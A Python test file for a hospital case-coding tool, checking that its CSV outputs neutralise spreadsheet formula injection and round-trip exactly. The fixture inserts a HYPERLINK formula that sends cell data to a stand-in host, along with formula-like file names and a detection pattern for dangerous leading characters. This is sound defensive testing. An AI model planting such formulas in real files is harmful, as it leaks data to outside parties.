"""Every file that people open, from a page whose every text is a formula; and the exact files for other programs."""

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from coding.codes.entry import CodeKind
from coding.commands.door import run
from coding.exchange.read import read_file
from coding.exchange.rejects import write_rejects
from coding.exchange.write import write_n041, write_pages
from coding.rules.local import LocalRules, row_of
from coding.rules.local_file import read_rule_file, write_rule_file
from coding.suggest.term_sheet import HEADERS, read_terms, write_terms
from tests.golden.golden_runs import HERE
from tests.rules.test_local import OWN

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://x/?"&A1,"点")'
#: Words of a front page, no codes and no numbers: what a doctor or a clerk may type.
TEXTS = ("XM", "ZZYS", "ZRYS", "KZR", "ZYYS", "BMY", "ZZMC", "LXRXM", "GZDWJDZ", "XZZ", "ZYZD", "SJZYTS", "RYBF")


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """The golden pages with a formula in every text, one row of a wrong length, in a file named like a formula."""
    source = (HERE / "inputs" / "pages.csv").read_text("gb18030")
    rows = list(csv.reader(source.splitlines()))
    for row in rows[1:]:
        for at, name in enumerate(rows[0][: len(row)]):
            if name in TEXTS:
                row[at] = FORMULA
    rows.append(rows[1][:40])
    rows[-1][5] = FORMULA
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "=1+1.csv"
    with path.open("w", encoding="gb18030", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


def run_by_a_spreadsheet(path):
    """Cells of a CSV that a spreadsheet would run."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert cells
    return [c for c in cells if c.lstrip(" \t\r\n　").startswith(("=", "+", "@")) or c.startswith(("\t", "\r", "-="))]


def test_no_result_of_check_holds_a_formula(hostile, tmp_path):
    assert run(["check", hostile.name, "--out", "结果", "--preflight", "--as-of", "2026-11-01", "--jobs", "1"]) == 0
    written = sorted((tmp_path / "结果").rglob("*.csv"))
    assert len(written) == 6
    assert any("'=HYPERLINK" in path.read_text("utf-8-sig") for path in written), "the formulas are in what is written"
    for path in written:
        assert run_by_a_spreadsheet(path) == [], path.name


def test_no_result_of_group_and_suggest_holds_a_formula(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "cases.csv").write_text('case_id,sex,age,dx,px\n"=1+1",1,40,K80.000,\n', "utf-8")
    (tmp_path / "names.csv").write_text("名称\n=1+1\n@SUM(1)\n", "utf-8")
    assert run(["group", "cases.csv", "--out", "g.csv"]) == 0
    assert run(["suggest", "names.csv", "--kind", "dx", "--column", "名称", "--out", "s.csv"]) == 0
    assert run_by_a_spreadsheet(tmp_path / "g.csv") == []
    assert run_by_a_spreadsheet(tmp_path / "s.csv") == []


def test_what_other_programs_read_is_exact(hostile, tmp_path):
    reading = read_file(hostile)
    write_pages(tmp_path / "back.csv", reading.pages, reading)
    assert FORMULA in [p.text("patient_name") for p in read_file(tmp_path / "back.csv").pages]
    write_n041(tmp_path / "n041.csv", reading.pages)
    for name in ("back.csv", "n041.csv"):
        assert "'=HYPERLINK" not in (tmp_path / name).read_text("gb18030")


def test_rows_that_were_turned_back_are_guarded_and_come_back_exact_however_often(hostile, tmp_path):
    first = read_file(hostile)
    path = tmp_path / "退回.csv"
    for _ in range(3):
        assert write_rejects(path, first)
        assert run_by_a_spreadsheet(path) == []
        again = read_file(path)
        # what is turned back once more, and what has become a page
        assert {r.raw["XM"] for r in again.rejects} == {FORMULA}
        assert {page.text("patient_name") for page in again.pages} <= {FORMULA}
        first = again


def test_the_term_book_comes_back_as_it_was(embedded, tmp_path):
    name = embedded.lookup.library(CodeKind.DIAGNOSIS).get("I10").name
    path = tmp_path / "术语.csv"
    write_terms(path, [("诊断", "=高血压", name, "I10", "3", "", "", "已批准", "", "+甲", "")])
    assert run_by_a_spreadsheet(path) == []
    pairs, _ = read_terms(path, embedded.lookup)
    assert [pair.raw for pair in pairs] == ["=高血压"]
    assert HEADERS[1] == "原词"


def test_rules_of_the_hospital_come_back_as_they_were(tmp_path):
    path = tmp_path / "规则.csv"
    row = {**OWN, "message": "=1+1 应为 2", "hint": "+请更正"}
    write_rule_file(path, [row])
    assert run_by_a_spreadsheet(path) == []
    read = read_rule_file(path, LocalRules())
    [rule] = read.changed
    back = row_of(rule.id, LocalRules(read.changed))
    assert (back["message"], back["hint"]) == ("=1+1 应为 2", "+请更正")


#: Each door that writes a table of the hospital, by what writes it.
DOORS = {
    "rules": "from coding.rules.local_file import write_rule_file as write\n"
    "rows = [{'id': str(n) * 9} for n in range(9999)]",
    "terms": "from coding.suggest.term_sheet import write_terms as write; rows = [[str(n)] * 11 for n in range(9999)]",
    "table": "from ui.grouping.group_table import save_csv; rows = [['甲'] * 9] * 9999\n"
    "def write(path, rows): save_csv(path, ['列'] * 9, rows)",
}


@pytest.mark.skipif(sys.platform == "win32", reason="需要配额")
@pytest.mark.parametrize("door", DOORS)
def test_a_full_disk_leaves_the_old_file(door, tmp_path):
    """A process that may write files of 20,000 bytes at most."""
    path = tmp_path / "旧.csv"
    path.write_bytes(b"old")
    code = (
        "import resource, signal, sys\nfrom pathlib import Path\nfrom coding.base.errors import UnusableInputError\n"
        f"{DOORS[door]}\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\nresource.setrlimit(resource.RLIMIT_FSIZE, (20000, 20000))\n"
        "try: write(Path(sys.argv[1]), rows)\nexcept UnusableInputError as error: print(error)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(path)], cwd=ROOT, capture_output=True, text=True, check=False,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )  # fmt: skip
    assert "无法写入" in done.stdout, done.stderr
    assert path.read_bytes() == b"old"
    assert [f.name for f in tmp_path.iterdir()] == ["旧.csv"]
